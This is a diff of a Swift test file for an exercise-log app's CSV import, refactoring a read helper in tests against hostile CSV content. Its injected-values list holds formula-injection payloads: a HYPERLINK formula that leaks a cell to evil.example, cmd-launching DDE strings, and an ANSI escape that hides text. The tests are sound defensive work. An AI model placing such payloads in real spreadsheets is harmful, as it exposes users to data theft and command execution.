@@ -7,10 +7,8 @@ import Testing
 /// Issue 18, items 3, 5, 7 and 10: what a CSV file carries out (no formula a spreadsheet runs,
 /// no escape byte) and what it may bring in (bounded cells, short error quotes, plausible values).
 struct HostileCSVTests {
-    static let exercises = ExerciseCatalog(records: [ExerciseRecord(name: "back squat", aliases: ["squat"], kind: .strength)])
-    static let reader = ImportReader(defaultUnit: .kg, today: testDay(0), exercises: exercises)
-
-    static func read(_ text: String) throws -> ImportPlan { try reader.read(text, file: "file.csv") }
+    /// Read as the import tests read: `file.csv`, today `testDay(0)`.
+    static func read(_ text: String) throws -> ImportPlan { try ImportReaderTests.read(text) }
 
     static let injected = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                            "-2+3+cmd|' /C calc'!A0", " =1+1", "\u{1B}[8mhidden\u{1B}[0m =x"]
